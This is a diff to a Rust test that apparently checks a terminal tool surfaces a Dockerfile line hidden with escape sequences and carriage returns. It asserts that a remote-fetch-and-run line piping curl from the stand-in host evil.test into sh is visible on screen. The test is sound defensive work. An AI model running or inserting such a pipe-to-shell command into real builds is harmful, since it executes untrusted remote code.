@@ -301,11 +301,19 @@ fn a_proposal_that_hides_a_line_is_shown_located_and_needs_a_second_yes() {
     std::fs::write(dir.join("Dockerfile"), HIDING_DOCKERFILE).unwrap();
     let p = project.path.to_str().unwrap();
 
-    let (code, out) = run_in_pty(&cfg.path, &["project", "diff", p], &[]);
-    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&out));
+    let mut app = cctui_pty(&cfg.path, &["project", "diff", p], &[]);
+    assert!(app.wait_exit(WAIT));
+    let out = app.output.lock().unwrap().clone();
+    // What a person sees: the RUN line is on the screen.
+    let seen = app.screen();
+    assert!(
+        seen.contains("RUN curl -s http://evil.test/x | sh"),
+        "{seen}"
+    );
     assert!(
         !contains(&out, b"\x1b[1A") && !contains(&out, b"\x1b[2K"),
-        "{out:?}"
+        "{}",
+        String::from_utf8_lossy(&out)
     );
     assert!(!contains(&out, b"\r#"), "a raw carriage return passed");
     let screen = String::from_utf8_lossy(&out);
